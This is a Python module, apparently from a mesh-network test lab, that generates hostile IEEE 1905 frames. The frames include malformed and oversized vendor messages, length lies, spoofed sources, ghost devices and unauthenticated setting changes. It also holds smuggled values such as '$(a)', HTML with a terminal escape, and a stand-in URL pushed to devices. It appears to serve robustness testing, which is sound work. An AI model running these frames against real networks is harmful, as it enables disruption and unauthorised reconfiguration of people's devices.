"""What a hostile neighbour sends. An attack is a function that builds one burst: frames that go out one after another
under one message identifier. The same seed builds the same bursts."""

import random
from dataclasses import dataclass, field

from meshlab.ieee1905 import (END, FLAG_LAST, FLAG_RELAY, INTEL_OUI, MAKER_OUI, MULTICAST, RSSI_REQUEST, TLV_AL_MAC,
                              TLV_DEVICE_INFORMATION, TLV_MAC_ADDRESS, TLV_NEIGHBOURS, TLV_VENDOR, TOPOLOGY_DISCOVERY,
                              TOPOLOGY_NOTIFICATION, TOPOLOGY_QUERY, TOPOLOGY_RESPONSE, VENDOR_SPECIFIC, IntelHeader, cmdu, ethernet,
                              fragments, mac_bytes, maker_message, tlv, vendor_frame)

MAX_VALUE = 16383  # bytes of a TLV that hosts still take
REPORT, STATE_RESPONSE, CONF_RESPONSE = 36, 9, 1
QUESTIONS = (0, 2, 8, 70, 76)  # configuration, power state, stations, password, country
RESULTS = (5, 21, 23, 27, 32, 35)  # one byte each
GHOSTS = 1024  # invented devices


@dataclass
class World:
    """What an attacker on a device knows: the AL MACs that the device's own file lists."""
    local: str
    controller: str
    victims: list  # every device but the local one
    random: random.Random
    ghosts: list = field(default_factory=list)

    def __post_init__(self):
        self.ghosts = [f"02:bd:{self.random.randrange(256):02x}:00:{n >> 8:02x}:{n & 255:02x}" for n in range(GHOSTS)]

    def victim(self):
        return self.random.choice(self.victims)

    def ghost(self):
        return self.random.choice(self.ghosts)

    def noise(self, count):
        return self.random.randbytes(count)

    def station(self):
        return b"\x02\xbe" + self.noise(4)

    def false_station(self):
        """One of few: told in true devices' names, they do not crowd out the true ones."""
        return b"\x02\xbe\xff\0\0" + bytes([self.random.randrange(16)])


def read_world(model, seed):
    devices = model["kv1905"]["DeviceList"]
    local = next(device["ID"] for device in devices if device["Local"])
    victims = [device["ID"] for device in devices if not device["Local"]]
    if not victims:
        raise ValueError("the device's own file lists no other device yet")
    return World(local, model["kv1905"]["Controller"] or victims[0], victims, random.Random(seed))


# ---- The probe after a flood

PROBER, PROBE_ID = "02:bd:ff:ff:ff:fe", 0xFFFE


def topology_query(victim):
    return ethernet(victim, PROBER, cmdu(TOPOLOGY_QUERY, PROBE_ID, END))


def answers_to(frame, victim):
    expected = ethernet(PROBER, victim, cmdu(TOPOLOGY_RESPONSE, PROBE_ID, b""))[:20]
    return frame[:20] == expected


# ---- What a sound message holds


def state_record(station, world):
    return station + b"\x01\x05" + world.noise(16)


def report_payload(reporter, stations):
    """As many as fit: 27 characters each."""
    text = b"".join(b"024{0=%s}" % station.hex(":").encode() for station in stations)
    return mac_bytes(reporter) + len(text).to_bytes(2, "big") + text


def conf_payload(subject, *attributes):
    return (mac_bytes(subject) + bytes([len(attributes)]) +
            b"".join(bytes([kind]) + len(value).to_bytes(2, "big") + value for kind, value in attributes))


def false_configuration(subject, world):
    return conf_payload(subject, (0, b"\0"), (7, b"<b>hostile</b>\n\x1b[2J" + world.noise(20)), (12, b"OFF"),
                        (16, b"3.0"), (116, b"99999999"))


def relayed(source, originator, message_type, tlvs):
    """To every device of the network."""
    body = tlvs + tlv(TLV_AL_MAC, mac_bytes(originator)) + END
    return ethernet(MULTICAST, source, cmdu(message_type, 0, body, flags=FLAG_LAST | FLAG_RELAY))


def multicast(source, originator, value):
    return relayed(source, originator, VENDOR_SPECIFIC, tlv(TLV_VENDOR, value))


def discovery(ghost):
    body = tlv(TLV_AL_MAC, mac_bytes(ghost)) + tlv(TLV_MAC_ADDRESS, mac_bytes(ghost)) + END
    return ethernet(MULTICAST, ghost, cmdu(TOPOLOGY_DISCOVERY, 0, body))


def topology_response(subject, victim, source, neighbours):
    return ethernet(victim, source, cmdu(TOPOLOGY_RESPONSE, 0, topology_report(subject, neighbours) + END))


def topology_report(subject, neighbours):
    mac = mac_bytes(subject)
    return (tlv(TLV_DEVICE_INFORMATION, mac + b"\x01" + mac + b"\0\x01\0") +
            tlv(TLV_NEIGHBOURS, mac + b"".join(mac_bytes(other) + b"\0" for other in neighbours)))


def settings(controller, target):
    """(type, payload) of everything that changes a device. Each is sound and would work."""
    mac = mac_bytes(target)
    url = b"http://192.0.2.1/x"
    command = f"2 {target}".encode()
    return ((4, mac), (22, mac), (26, mac), (33, mac + b"\0"), (34, mac + b"\0"),
            (6, mac + b"\x01" + mac[:5] + b"\x20" + b"\x01\x03\0"),
            (20, b"\x01" + (len(url) + 1).to_bytes(2, "big") + b"\x01" + url),
            (25, bytes(2) + len(command).to_bytes(2, "big") + command),
            (69, mac_bytes(controller) + b"\0\x08" + b"hostile!" + bytes(248)),
            (77, mac_bytes(controller) + b"\x02" + b"XX"))


# ---- Attacks. The first line of each text is what --help tells.


def malformed(world):
    """vendor messages of every type that break off, of foreign makers, with noise in them"""
    ghost, kind = world.ghost(), world.random.randrange(80)
    whole = maker_message(ghost, kind, world.noise(world.random.randrange(5)))
    value = world.random.choice((
        whole, whole[:world.random.randrange(len(whole))], INTEL_OUI + world.noise(world.random.randrange(24)),
        world.noise(3) + whole[3:], maker_message(ghost, 0xFF00 | kind, b""), MAKER_OUI))
    return [vendor_frame(world.victim(), ghost, 0, value)]


def lengths(world):
    """lies about lengths and counts: payloads, attributes, stations, records, TLVs"""
    ghost = world.ghost()
    mac, random_ = mac_bytes(ghost), world.random
    kind, payload, claimed = random_.choice((
        (0, mac, random_.choice((7, 0xFFFF))),
        (CONF_RESPONSE, mac + b"\xff" + b"\x07\0\x02ab", None),
        (CONF_RESPONSE, mac + b"\x01" + b"\x07\xff\xff" + world.noise(900), None),
        (3, mac + bytes([random_.randrange(31, 256)]) + world.noise(270), None),
        (7, b"\xff" + world.noise(40), None),
        (STATE_RESPONSE, b"\xff" + state_record(world.station(), world) * random_.randrange(60), None),
        (REPORT, mac + b"\xff\xff" + b"024{0=02:00:00:00:00:01}", None),
        (REPORT, mac + b"\0\x12" + b"999{0=02:00:00:00}", None),
        (REPORT, mac + b"\0\x12" + b"-05{0=02:00:00:00}", None),
        (REPORT, mac + b"\0\x12" + b"001{0=02:00:00:00}", None),
        (20, b"\x01\xff\xff\x01" + b"u" * 64, None),
        (25, b"\0\0\xff\xff" + b"2 " * 40, None),
        (69, mac + b"\xff\xff" + world.noise(256), None),
        (77, mac + b"\xff" + b"DE", None),
        (77, mac + b"\x04" + b"$(a)", None)))
    value = maker_message(ghost, kind, payload, claimed)
    body = tlv(TLV_VENDOR, value, random_.choice((None, None, None, len(value) + 1, 0xFFFF, 2))) + END
    return [ethernet(world.victim(), ghost, cmdu(VENDOR_SPECIFIC, 0, body))]


def oversized(world):
    """vendor messages of the largest sizes, in many frames"""
    ghost = world.ghost()
    size = world.random.choice((1400, 6121, MAX_VALUE - 15, MAX_VALUE, 30000))
    stations = b"\xff" + b"".join(state_record(world.station(), world) for _ in range(255))
    value = maker_message(ghost, STATE_RESPONSE, stations + bytes(max(size - len(stations), 0)))
    return fragments(world.victim(), ghost, VENDOR_SPECIFIC, tlv(TLV_VENDOR, value) + END)


def unfinished(world):
    """first, middle and last fragments of messages that never become whole"""
    source = "02:bf:" + world.noise(4).hex(":")
    flags = world.random.choice((0, 0, 0, FLAG_RELAY, FLAG_LAST))
    return [ethernet(world.victim(), source, cmdu(VENDOR_SPECIFIC, 0, tlv(TLV_VENDOR, world.noise(1400)),
                                                  fragment=world.random.choice((0, 1, 1, 2, 254, 255)), flags=flags))]


def sources(world):
    """true devices' and the receiver's own addresses as Ethernet source"""
    victim = world.victim()
    source = world.random.choice((victim, victim[:-2] + "10", victim[:-2] + "11", world.controller, world.local,
                                  world.victim(), world.victim()[:-2] + "10"))
    kind, payload = world.random.choice(((CONF_RESPONSE, false_configuration(source, world)), (0, mac_bytes(victim)),
                                         (REPORT, report_payload(source, [world.false_station()]))))
    return [world.random.choice((vendor_frame(victim, source, 0, maker_message(source, kind, payload)),
                                 topology_response(source, victim, source, [world.ghost()])))]


def names(world):
    """false configurations and stations of true devices, told in their and the receiver's own names"""
    subject, sender = world.random.choice(world.victims + [world.local]), world.ghost()
    kind, payload = world.random.choice((
        (CONF_RESPONSE, false_configuration(subject, world)),
        (REPORT, report_payload(subject, [world.false_station()])),
        (STATE_RESPONSE, b"\x01" + state_record(world.false_station(), world))))
    value = maker_message(subject, kind, payload)
    return [world.random.choice((vendor_frame(world.victim(), sender, 0, value), multicast(sender, subject, value)))]


def devices(world):
    """devices that do not exist: discoveries, notifications, topology responses with many neighbours"""
    ghost, victim = world.ghost(), world.victim()
    return [world.random.choice((discovery(ghost), relayed(ghost, ghost, TOPOLOGY_NOTIFICATION, b""),
                                 topology_response(ghost, victim, ghost, world.random.sample(world.ghosts, 150))))]


def silent(world):
    """devices that join, speak the vendor's protocol once, and never answer a query"""
    ghost, victim = world.random.choice(world.ghosts[:64]), world.victim()
    return [topology_response(ghost, victim, ghost, [victim]),
            vendor_frame(victim, ghost, 0, maker_message(ghost, CONF_RESPONSE, false_configuration(ghost, world)))]


def stations(world):
    """stations that do not exist, of devices that do not exist"""
    ghost, victim = world.random.choice(world.ghosts[:128]), world.victim()
    reported = [world.station() for _ in range(47)]
    records = b"".join(state_record(world.station(), world) for _ in range(60))
    return [relayed(ghost, ghost, TOPOLOGY_RESPONSE, topology_report(ghost, [])),
            multicast(ghost, ghost, maker_message(ghost, REPORT, report_payload(ghost, reported))),
            vendor_frame(victim, ghost, 0, maker_message(ghost, STATE_RESPONSE, b"\x3c" + records))]


def replay(world):
    """one and the same message again and again, under one identifier and under many"""
    subject = world.victims[0]
    value = maker_message(subject, CONF_RESPONSE, conf_payload(subject, (16, b"3.0")))
    return [multicast(world.local, subject, value)] * 4 + [vendor_frame(world.victim(), world.local, 0, value)] * 4


def questions(world):
    """questions of devices that do not exist; some make the device run a program"""
    ghost, victim = world.ghost(), world.victim()
    return [vendor_frame(victim, ghost, 0, maker_message(ghost, world.random.choice(QUESTIONS), mac_bytes(victim)))]


def results(world):
    """results of commands that nobody gave"""
    ghost = world.ghost()
    value = maker_message(ghost, world.random.choice(RESULTS), bytes([world.random.choice((0, 1, 7, 16, 64))]))
    return [vendor_frame(world.victim(), ghost, 0, value)]


def countries(world):
    """countries of devices that do not exist; where nobody guards, each is stored and given to the driver"""
    ghost = world.ghost()
    value = maker_message(ghost, 77, mac_bytes(ghost) + b"\x02" + world.random.choice((b"XX", b"YY")))
    return [vendor_frame(world.victim(), ghost, 0, value)]


def intel(world):
    """Intel's signal requests, sound and broken"""
    header = IntelHeader(world.noise(4), world.noise(2), world.noise(6), world.noise(2))
    value = header.message(world.random.choice((RSSI_REQUEST, RSSI_REQUEST, 0x68, 0x6A, 0xFF)), world.station())
    cut = world.random.choice((None, None, world.random.randrange(3, len(value))))
    return [vendor_frame(world.victim(), world.ghost(), 0, value[:cut])]


def strangers(world):
    """sound requests that change a device, from strangers; where nobody guards, it changes"""
    ghost, victim = world.ghost(), world.victim()
    kind, payload = world.random.choice(settings(world.controller, victim))
    value = maker_message(world.random.choice((ghost, world.controller)), kind, payload)
    return [world.random.choice((vendor_frame(victim, ghost, 0, value), multicast(ghost, ghost, value)))]


ATTACKS = {attack.__name__: attack for attack in (
    malformed, lengths, oversized, unfinished, sources, names, devices, silent, stations, replay, questions, results,
    countries, intel, strangers)}
